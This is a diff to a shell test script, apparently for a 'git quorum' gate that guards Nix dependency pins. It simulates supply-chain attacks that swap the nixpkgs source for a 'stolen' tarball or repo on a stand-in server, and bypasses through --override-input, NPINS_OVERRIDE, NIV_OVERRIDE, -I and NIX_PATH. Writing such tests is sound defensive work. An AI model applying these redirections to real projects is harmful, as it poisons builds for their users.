@@ -414,8 +414,9 @@ pinned nixpkgs hash "$stolen_hash"
 attack 'npins: good revision, url and hash of another tree' fooled 3 PIN_ATTRIBUTE
 
 change npins
-edit npins/default.nix "s|url = pin.url;|url = \"$server/stolen.tar.gz\";|; s|sha256 = pin.hash|sha256 = \"$stolen_hash\"|"
-edit npins/default.nix "s|inherit url;|url = \"$server/stolen.tar.gz\";|; s|sha256 = hash;.*|sha256 = \"$stolen_hash\";|"
+git mv npins/default.nix npins/generated.nix
+printf 'import ./generated.nix // { nixpkgs = fetchTarball { url = "%s"; sha256 = "%s"; }; }\n' \
+  "$server/stolen.tar.gz" "$stolen_hash" >npins/default.nix
 attack 'npins: a loader that does not look' fooled 1 LOADER_CHANGED
 
 change npins
@@ -444,6 +445,32 @@ at_hand=(tip nixpkgs-src "$tip_hash")
 attack 'niv: a commit that nobody reviewed' fooled 1 PIN_NOT_APPROVED
 at_hand=()
 
+title 'Ways around the lock on one machine: plain nix, and git quorum nix'
+# Arguments for nix, after one variable (or none), in a project of the consumer.
+bypass() {
+  local what=$1 variable=$2 answer status=0 seen=stopped
+  as consumer "project-$3"
+  shift 3
+  printf '\n## %s\n' "$what"
+  answer=$(env ${variable:+"$variable"} nix "$@" 2>"$work/complaint") || status=$?
+  printf 'plain nix: %s\n' "${answer:-$(grep -m 1 error: "$work/complaint")}"
+  ((status != 0)) || { [[ $answer == *' and hello 2.13' ]] && seen=silent || seen=fooled; }
+  [[ $seen == fooled ]] || fail "plain nix was to be fooled: $(cat "$work/complaint")"
+  step 2 env ${variable:+"$variable"} git quorum nix -- "$@"
+  row "$what" "$seen" 2 'nix not started'
+}
+tree=$work/mallory/tools
+bypass 'flake: --override-input' '' flake eval --raw .#hello --override-input nixpkgs "git+$server/stolen.git?ref=main"
+bypass 'npins: NPINS_OVERRIDE_nixpkgs' "NPINS_OVERRIDE_nixpkgs=$tree" npins eval --raw -f . hello
+bypass 'niv: NIV_OVERRIDE_nixpkgs' "NIV_OVERRIDE_nixpkgs=$tree" niv eval --raw -f . hello
+lookup='"tools 1 and ${(import <nixpkgs>).hello}"'
+bypass '<nixpkgs>: -I' '' flake eval --raw --impure -I "nixpkgs=$tree" --expr "$lookup"
+bypass '<nixpkgs>: NIX_PATH' "NIX_PATH=nixpkgs=$tree" flake eval --raw --impure --expr "$lookup"
+as consumer project-flake
+step 0 git quorum nix -- eval --raw .#hello
+
+title 'Who was fooled'
+printf '%-56s %-8s %s\n' '' 'nix' 'the gate'
 cat "$table"
 if [[ -s $failures ]]; then
   printf '\n%s steps did not behave as they should\n' "$(wc -c <"$failures")"
